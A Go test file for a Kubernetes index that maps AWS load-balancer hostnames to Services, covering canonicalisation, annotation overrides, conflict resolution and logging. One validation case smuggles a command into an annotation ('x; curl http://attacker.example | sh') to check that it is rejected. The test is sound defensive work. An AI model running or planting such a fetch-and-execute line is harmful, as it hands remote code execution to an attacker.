package elb

import (
	"strings"
	"testing"
	"time"

	"github.com/go-logr/logr"
	"github.com/go-logr/logr/funcr"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

func lbService(ns, name string, annotations map[string]string, hosts ...string) *corev1.Service {
	svc := &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, Annotations: annotations},
		Spec:       corev1.ServiceSpec{Type: corev1.ServiceTypeLoadBalancer},
	}
	for _, h := range hosts {
		svc.Status.LoadBalancer.Ingress = append(svc.Status.LoadBalancer.Ingress, corev1.LoadBalancerIngress{Hostname: h})
	}
	return svc
}

// TestIndex covers one Service's claims: what it claims, in canonical
// form, and that an update or a delete drops what it no longer claims.
func TestIndex(t *testing.T) {
	const (
		nlb     = "payments-0123456789abcdef.elb.us-west-2.amazonaws.com"
		classic = "internal-orders-1234567890.us-east-1.elb.amazonaws.com"
	)
	tests := []struct {
		name   string
		events func(x *Index)
		key    string
		want   ServiceRef
		found  bool
	}{
		{"a LoadBalancer Service's ELB names the Service",
			func(x *Index) { x.Set(lbService("shop", "payments", nil, nlb)) },
			nlb, ServiceRef{Namespace: "shop", Name: "payments"}, true},
		{"the hostname is matched in canonical form (case, trailing dot, dualstack)",
			func(x *Index) {
				x.Set(lbService("shop", "orders", nil, "DualStack."+classic+"."))
			},
			classic, ServiceRef{Namespace: "shop", Name: "orders"}, true},
		{"inzone.io/ddsd-name overrides the service name",
			func(x *Index) {
				x.Set(lbService("shop", "payments-lb", map[string]string{AnnotationDDSDName: "payments"}, nlb))
			},
			nlb, ServiceRef{Namespace: "shop", Name: "payments"}, true},
		{"a hostname that is not an ELB is ignored",
			func(x *Index) { x.Set(lbService("shop", "web", nil, "web.example.com")) },
			"web.example.com", ServiceRef{}, false},
		{"a ClusterIP Service is ignored even with an ingress status",
			func(x *Index) {
				svc := lbService("shop", "payments", nil, nlb)
				svc.Spec.Type = corev1.ServiceTypeClusterIP
				x.Set(svc)
			},
			nlb, ServiceRef{}, false},
		{"an update that drops the hostname forgets it",
			func(x *Index) {
				old := lbService("shop", "payments", nil, nlb)
				x.Set(old)
				x.Set(lbService("shop", "payments", nil))
			},
			nlb, ServiceRef{}, false},
		{"a delete forgets the Service",
			func(x *Index) {
				svc := lbService("shop", "payments", nil, nlb)
				x.Set(svc)
				x.Delete(svc.Namespace, svc.Name)
			},
			nlb, ServiceRef{}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			x := NewIndex(logr.Discard())
			tt.events(x)
			got, found := x.Resolve(tt.key)
			if found != tt.found || got != tt.want {
				t.Errorf("Resolve(%s) = %+v, %v; want %+v, %v", tt.key, got, found, tt.want, tt.found)
			}
		})
	}
}

// aged sets a Service's creation time, minutes after a fixed instant.
func aged(svc *corev1.Service, minutes int) *corev1.Service {
	svc.CreationTimestamp = metav1.NewTime(time.Date(2026, 1, 1, 0, minutes, 0, 0, time.UTC))
	return svc
}

// TestIndexSharedHostnames covers several Services claiming one hostname:
// the mapping lives as long as one claim does, and a conflict resolves to
// the oldest Service whatever the order the index hears of the Services in.
func TestIndexSharedHostnames(t *testing.T) {
	const nlb = "payments-0123456789abcdef.elb.us-west-2.amazonaws.com"
	ref := func(ns, name string) ServiceRef { return ServiceRef{Namespace: ns, Name: name} }
	tests := []struct {
		name   string
		events func(x *Index)
		want   ServiceRef
		found  bool
	}{
		{"deleting one of two Services sharing a hostname keeps the mapping",
			func(x *Index) {
				x.Set(aged(lbService("shop", "payments", nil, nlb), 1))
				x.Set(aged(lbService("shop", "payments-v2", map[string]string{AnnotationDDSDName: "payments"}, nlb), 2))
				x.Delete("shop", "payments-v2")
			},
			ref("shop", "payments"), true},
		{"deleting the other one keeps it too",
			func(x *Index) {
				x.Set(aged(lbService("shop", "payments", nil, nlb), 1))
				x.Set(aged(lbService("shop", "payments-v2", map[string]string{AnnotationDDSDName: "payments"}, nlb), 2))
				x.Delete("shop", "payments")
			},
			ref("shop", "payments"), true},
		{"an update dropping the hostname from one keeps the other's",
			func(x *Index) {
				x.Set(aged(lbService("shop", "a", nil, nlb), 1))
				x.Set(aged(lbService("shop", "b", nil, nlb), 2))
				x.Set(aged(lbService("shop", "a", nil), 1))
			},
			ref("shop", "b"), true},
		{"deleting both forgets the hostname",
			func(x *Index) {
				x.Set(aged(lbService("shop", "a", nil, nlb), 1))
				x.Set(aged(lbService("shop", "b", nil, nlb), 2))
				x.Delete("shop", "a")
				x.Delete("shop", "b")
			},
			ServiceRef{}, false},
		{"a conflict goes to the oldest Service, added first",
			func(x *Index) {
				x.Set(aged(lbService("shop", "payments", nil, nlb), 1))
				x.Set(aged(lbService("other", "thief", nil, nlb), 2))
			},
			ref("shop", "payments"), true},
		{"a conflict goes to the oldest Service, added last",
			func(x *Index) {
				x.Set(aged(lbService("other", "thief", nil, nlb), 2))
				x.Set(aged(lbService("shop", "payments", nil, nlb), 1))
			},
			ref("shop", "payments"), true},
		{"equal ages go to namespace/name order",
			func(x *Index) {
				x.Set(aged(lbService("zz", "b", nil, nlb), 1))
				x.Set(aged(lbService("aa", "c", nil, nlb), 1))
			},
			ref("aa", "c"), true},
		{"the loser takes over once the winner is deleted",
			func(x *Index) {
				x.Set(aged(lbService("shop", "payments", nil, nlb), 1))
				x.Set(aged(lbService("other", "orders", nil, nlb), 2))
				x.Delete("shop", "payments")
			},
			ref("other", "orders"), true},
		{"a Service whose annotation turns invalid drops its claim",
			func(x *Index) {
				x.Set(aged(lbService("other", "evil", map[string]string{AnnotationDDSDName: "fine"}, nlb), 1))
				x.Set(aged(lbService("other", "evil", map[string]string{AnnotationDDSDName: "x; curl http://attacker.example | sh"}, nlb), 1))
			},
			ServiceRef{}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			x := NewIndex(logr.Discard())
			tt.events(x)
			got, found := x.Resolve(nlb)
			if found != tt.found || got != tt.want {
				t.Errorf("Resolve = %+v, %v; want %+v, %v", got, found, tt.want, tt.found)
			}
		})
	}
}

// TestIndexLogs checks ignored and conflicting claims are logged, naming
// the Services.
func TestIndexLogs(t *testing.T) {
	const nlb = "payments-0123456789abcdef.elb.us-west-2.amazonaws.com"
	var lines []string
	x := NewIndex(funcr.New(func(prefix, args string) { lines = append(lines, args) }, funcr.Options{}))
	x.Set(aged(lbService("other", "evil", map[string]string{AnnotationDDSDName: "x; sh"}, nlb), 1))
	x.Set(aged(lbService("shop", "payments", nil, nlb), 1))
	x.Set(aged(lbService("other", "orders", nil, nlb), 2))
	all := strings.Join(lines, "\n")
	for _, want := range []string{`"service"="other/evil"`, AnnotationDDSDName, `"winner"="shop/payments"`, `"ignored"="other/orders"`} {
		if !strings.Contains(all, want) {
			t.Errorf("logs do not contain %s:\n%s", want, all)
		}
	}
}
